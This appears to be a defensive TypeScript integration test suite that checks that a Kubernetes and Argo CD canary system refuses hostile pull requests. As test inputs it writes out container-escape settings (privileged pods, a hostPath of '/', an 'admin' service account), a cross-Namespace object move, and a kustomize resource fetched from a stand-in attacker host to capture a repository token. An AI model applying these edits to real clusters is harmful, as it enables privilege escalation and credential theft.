import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { before, describe, it } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { canaryName, revisionOf } from "@perch/core";
import { until } from "../support/until.ts";
import { type Answer, askUntil, servedBy, servesOn } from "./support/edge.ts";
import { add, all, appendKustomization, asOnMain, replaceIn } from "./support/edits.ts";
import { PATIENCE } from "./support/patience.ts";
import { REPOSITORIES } from "./support/perch-yaml.ts";
import { BREACHES, deploymentWith, WELL } from "./support/pod-security.ts";
import { livingPods } from "./support/pods.ts";
import {
  type Edit,
  namespaceOf,
  type OpenPullRequest,
  open,
  publishAndLabel,
  push,
} from "./support/pull-requests.ts";
import { allGone } from "./support/residue.ts";
import { useCluster } from "./support/suite.ts";

const { shop } = REPOSITORIES;

interface Application {
  readonly status?: {
    readonly operationState?: {
      readonly phase?: string;
      readonly message?: string;
      readonly syncResult?: { readonly resources?: readonly { readonly message?: string }[] };
    };
  };
}

/** The manifests that a hostile pull request adds, one file each. */
function hostile(name: string): string {
  return readFileSync(join(import.meta.dirname, "hostile", name), "utf8");
}

/** What its author tries: all of it stays without effect, whatever else the pull request has. */
const ATTEMPTS: readonly { readonly what: string; readonly edit: Edit }[] = [
  "ingress-route.yaml",
  "namespace.yaml",
  "cluster-role.yaml",
  "external-secret.yaml",
  "external-name.yaml",
  "load-balancer.yaml",
  "hook.yaml",
  "wave.yaml",
  "finalizer.yaml",
  "budget.yaml",
].map((name) => ({ what: name.replace(".yaml", ""), edit: add("api", name, hostile(name)) }));

const IN_TEMPLATE: readonly { readonly what: string; readonly edit: Edit; readonly refusal?: RegExp }[] = [
  {
    what: "another service account",
    edit: replaceIn(
      "api",
      "deployment.yaml",
      "      containers:",
      "      serviceAccountName: admin\n      containers:",
    ),
  },
  {
    what: "an image from elsewhere",
    edit: replaceIn("api", "deployment.yaml", "      volumes:", `${hostile("sidecar.yaml")}      volumes:`),
  },
  {
    what: "say in where others' pods may run",
    edit: replaceIn(
      "api",
      "deployment.yaml",
      "      containers:",
      `${hostile("away.yaml")}      containers:`,
    ),
  },
  {
    what: "a privileged pod",
    refusal: /no container of a canary is privileged/,
    edit: replaceIn(
      "api",
      "deployment.yaml",
      "          allowPrivilegeEscalation: false",
      "          privileged: true\n          allowPrivilegeEscalation: true",
    ),
  },
  {
    what: "a hostPath",
    edit: replaceIn(
      "api",
      "deployment.yaml",
      "      volumes:\n",
      "      volumes:\n      - name: host\n        hostPath:\n          path: /\n",
    ),
  },
];

describe("a hostile pull request on a real cluster", () => {
  let victim: OpenPullRequest;
  const suite = useCluster(async (cluster) => {
    await cluster.github.close(shop, victim.number);
    await allGone(cluster, [namespaceOf(victim, "api")]);
  });

  before(async () => {
    victim = await open(suite.cluster, shop);
    await publishAndLabel(suite.cluster, victim, ["api"]);
    await askUntil(
      suite.cluster,
      { selector: String(victim.number) },
      servedBy(`api@${victim.number}`, "store"),
    );
  });

  /** Stable and the other canary answer as ever. */
  async function othersAreUntouched(): Promise<void> {
    await servesOn(suite.cluster, {}, []);
    await servesOn(suite.cluster, { selector: String(victim.number) }, [`api@${victim.number}`, "store"]);
  }

  /** The sync of its workload was tried, and refused, with this reason for one of its objects. */
  function isRefused(pullRequest: OpenPullRequest, reason = /(?:)/): Promise<void> {
    const name = canaryName("api", pullRequest.number);
    return until(`the sync of ${name} is refused`, PATIENCE, async () => {
      const found = await suite.cluster.read(
        `/apis/argoproj.io/v1alpha1/namespaces/argocd/applications/${name}`,
      );
      const {
        phase = "",
        message = "",
        syncResult,
      } = (found as Application | undefined)?.status?.operationState ?? {};
      const isOver = /^(Failed|Error)$/.test(phase) || /[Rr]etrying/.test(message);
      return (
        isOver &&
        [{ message }, ...(syncResult?.resources ?? [])].some((one) => reason.test(one.message ?? ""))
      );
    });
  }

  /** What it pushed does not hold up what its author pushes next. */
  async function isMended(bad: OpenPullRequest): Promise<void> {
    const { number, head } = await push(suite.cluster, bad, ["api"], asOnMain("api"));
    const isNew = ({ status, revisions }: Answer) => status === 200 && revisions[0] === revisionOf(head);
    await askUntil(suite.cluster, { selector: String(number) }, isNew);
  }

  // Side by side: an Application that retries a refused sync closes when its retries are over, half a minute later.
  describe("that adds to its manifests", { concurrency: 4 }, () => {
    for (const { what, edit } of ATTEMPTS) {
      it(`gets no ${what}: its sync is refused, its good revision serves on, the next push mends it, and it closes`, async () => {
        const { cluster } = suite;
        const good = await open(cluster, shop);
        await publishAndLabel(cluster, good, ["api"]);
        const selector = String(good.number);
        await askUntil(cluster, { selector }, servedBy(`api@${selector}`, "store"));
        const bad = await push(cluster, good, ["api"], edit);
        await isRefused(bad);
        await servesOn(cluster, { selector }, [`api@${selector}`, "store"]);
        await othersAreUntouched();
        await nothingOfIt();
        await isMended(bad);
        await cluster.github.close(shop, good.number);
        await allGone(cluster, [namespaceOf(good, "api")]);
      });
    }

    for (const { what, edit, refusal } of IN_TEMPLATE) {
      it(`gets no ${what}: no such pod runs, and the next push mends it`, async () => {
        const { cluster } = suite;
        const bad = await open(cluster, shop, edit);
        await publishAndLabel(cluster, bad, ["api"]);
        const selector = String(bad.number);
        await askUntil(cluster, { selector }, ({ status }) => status === 503);
        if (refusal !== undefined) await isRefused(bad, refusal);
        await sleep(3000);
        const pods = await cluster.kubectl([
          "get",
          "pods",
          "--namespace",
          namespaceOf(bad, "api"),
          "--output=name",
        ]);
        // The service account is set by the ApplicationSet's own patch, so that this one runs as it should.
        if (what !== "another service account") assert.equal(pods, "");
        await othersAreUntouched();
        await isMended(bad);
        await cluster.github.close(shop, bad.number);
        await allGone(cluster, [namespaceOf(bad, "api")]);
      });
    }
  });

  it("is told which rule of Pod Security a Deployment breaks, and what keeps to them is taken", async () => {
    const create = [
      "create",
      "--dry-run=server",
      `--namespace=${namespaceOf(victim, "api")}`,
      "--filename=-",
    ];
    for (const breach of BREACHES) {
      const { says, ...changes } = breach;
      await assert.rejects(
        suite.cluster.kubectl(create, deploymentWith(changes)),
        new RegExp(`perch-canary-templates.* denied request: [^\n]*${says}`),
        JSON.stringify(breach),
      );
    }
    for (const changes of WELL) await suite.cluster.kubectl(create, deploymentWith(changes));
  });

  it("cannot move an object into another canary's Namespace", async () => {
    const { cluster } = suite;
    const target = namespaceOf(victim, "api");
    const transformer = hostile("move.yaml").replaceAll("VICTIM", target);
    const edit = all(
      add("api", "stolen.yaml", hostile("stolen.yaml")),
      appendKustomization("api", "transformers:\n- move.yaml\n"),
      async (folder) => {
        await writeFile(join(folder, "services/api/deploy/base/move.yaml"), transformer);
      },
    );
    const bad = await open(cluster, shop, edit);
    await publishAndLabel(cluster, bad, ["api"]);
    await isRefused(bad);
    const found = await cluster.kubectl(["get", "configmaps", "--namespace", target, "--output=name"]);
    assert.doesNotMatch(found, /stolen/);
    await othersAreUntouched();
    await cluster.github.close(shop, bad.number);
    await allGone(cluster, [namespaceOf(bad, "api")]);
  });

  it("cannot have Argo CD fetch from a host of its author, which would be given the repository's token", async () => {
    const { cluster } = suite;
    const good = await open(cluster, shop);
    await publishAndLabel(cluster, good, ["api"]);
    const selector = String(good.number);
    await askUntil(cluster, { selector }, servedBy(`api@${selector}`, "store"));
    const elsewhere = replaceIn(
      "api",
      "kustomization.yaml",
      "resources:\n",
      "resources:\n- https://author.example/base.git?ref=main\n",
    );
    const bad = await push(cluster, good, ["api"], elsewhere);
    const path = `/apis/argoproj.io/v1alpha1/namespaces/argocd/applications/${canaryName("api", bad.number)}`;
    // Git's own word for it: no host was asked.
    await until("git refuses the address", PATIENCE, async () =>
      /transport 'elsewhere' not allowed/.test(JSON.stringify(await cluster.read(path))),
    );
    await servesOn(cluster, { selector }, [`api@${selector}`, "store"]);
    await isMended(bad);
    await cluster.github.close(shop, good.number);
    await allGone(cluster, [namespaceOf(good, "api")]);
  });

  it("asks for 100 replicas and gets what the quota has room for", async () => {
    const { cluster } = suite;
    const edit = all(
      replaceIn("api", "deployment.yaml", "spec:\n", "spec:\n  replicas: 100\n"),
      replaceIn("api", "hpa.yaml", /minReplicas: .*/, "minReplicas: 100"),
      replaceIn("api", "hpa.yaml", /maxReplicas: .*/, "maxReplicas: 100"),
    );
    const bad = await open(cluster, shop, edit);
    await publishAndLabel(cluster, bad, ["api"]);
    const selector = String(bad.number);
    await askUntil(cluster, { selector }, servedBy(`api@${selector}`, "store"));
    const namespace = namespaceOf(bad, "api");
    const hpa = await cluster.kubectl([
      ...["get", "hpa/api", "--namespace", namespace],
      "--output=jsonpath={.spec.minReplicas} {.spec.maxReplicas}",
    ]);
    assert.equal(hpa, "1 2");
    const pods = await livingPods(cluster, namespace);
    assert.ok(pods <= 6, String(pods));
    await othersAreUntouched();
    await cluster.github.close(shop, bad.number);
    await allGone(cluster, [namespace]);
  });

  it("cannot be kept alive by a PostDelete hook", async () => {
    const { cluster } = suite;
    const bad = await open(cluster, shop, add("api", "post-delete.yaml", hostile("post-delete.yaml")));
    await publishAndLabel(cluster, bad, ["api"]);
    await sleep(3000);
    await othersAreUntouched();
    await cluster.github.close(shop, bad.number);
    await allGone(cluster, [namespaceOf(bad, "api")]);
  });

  /** Nothing with the name that every attempt uses is anywhere. */
  async function nothingOfIt(): Promise<void> {
    const found = await suite.cluster.kubectl([
      "get",
      "services,ingressroutes.traefik.io,externalsecrets.external-secrets.io,namespaces,clusterroles,jobs,configmaps,poddisruptionbudgets",
      "--all-namespaces",
      "--output=name",
    ]);
    assert.doesNotMatch(found, /hostile/);
  }
});
